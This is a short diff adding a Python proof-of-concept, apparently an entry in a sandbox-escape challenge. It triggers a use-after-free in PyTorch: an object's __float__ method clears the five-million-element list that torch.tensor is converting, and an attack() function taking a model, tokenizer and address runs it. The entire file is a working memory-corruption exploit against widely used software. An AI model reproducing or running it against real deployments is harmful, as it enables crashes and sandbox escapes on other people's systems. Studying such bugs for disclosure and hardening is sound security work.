@@ -1,0 +1,17 @@
+"""Class: memory. Source: own find. Escape: torch.tensor walks a list whose memory goes back to the
+kernel meanwhile."""
+
+import torch
+
+
+class Item:
+    def __float__(self):
+        data.clear()
+        return 0.0
+
+
+data = [Item()] + [1.0] * 5_000_000
+
+
+def attack(model, tokenizer, address):
+    torch.tensor(data, dtype=torch.float64)
